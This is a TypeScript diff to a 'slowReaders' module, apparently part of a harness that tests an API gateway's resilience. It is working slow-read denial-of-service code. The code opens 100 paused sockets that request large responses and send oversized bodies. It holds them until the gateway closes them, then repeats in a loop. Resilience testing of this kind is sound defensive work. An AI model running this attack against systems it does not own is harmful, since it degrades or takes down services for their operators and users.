@@ -1,9 +1,24 @@
-import { type Attack, openSocket, over } from "../attack.ts";
+import { type Attack, openSocket, type Target } from "../attack.ts";
+import { untilLetGo } from "../held.ts";
 
-/** Many connections that ask for the largest answers, wrong bodies' too, and read nothing of them. */
+/**
+ * Many connections that ask for the largest answers, wrong bodies' too, and read nothing of them. They are held until the
+ * gateway closes them, and then there are as many again.
+ */
 export const slowReaders: Attack = async (target, signal) => {
-  const body = `{"lines":[${"1,".repeat(30_000)}1]}`;
-  const sockets = Array.from({ length: 100 }, (_, index) => {
+  let rounds = 0;
+  while (!signal.aborted) {
+    await hold(target);
+    rounds++;
+  }
+  return `${rounds} times ${connections} connections, of which the gateway has let go each time`;
+};
+
+const connections = 100;
+const body = `{"lines":[${"1,".repeat(30_000)}1]}`;
+
+async function hold(target: Target): Promise<void> {
+  const sockets = Array.from({ length: connections }, (_, index) => {
     const socket = openSocket(target);
     socket.pause();
     const head = (method: string, path: string, length: number) =>
@@ -11,14 +26,21 @@ export const slowReaders: Attack = async (target, signal) => {
     socket.write(
       index % 2 === 0
         ? head("POST", "/v1/guest-carts", body.length) + body
-        : head("GET", "/v1/products?pageSize=1000", 0) + head("GET", "/openapi.json", 0),
+        : head("GET", "/v1/products?pageSize=1000", 0) + head("GET", "/openapi.json", 0).repeat(10),
     );
     return socket;
   });
-  await over(signal);
-  const open = sockets.filter(({ destroyed }) => !destroyed).length;
+  await Promise.all(
+    sockets.map(
+      (socket) =>
+        new Promise<void>((resolve) => {
+          socket.once("connect", () => resolve());
+          socket.once("close", () => resolve());
+        }),
+    ),
+  );
+  await untilLetGo(target);
   for (const socket of sockets) {
     socket.destroy();
   }
-  return `${open} of ${sockets.length} connections still open`;
-};
+}
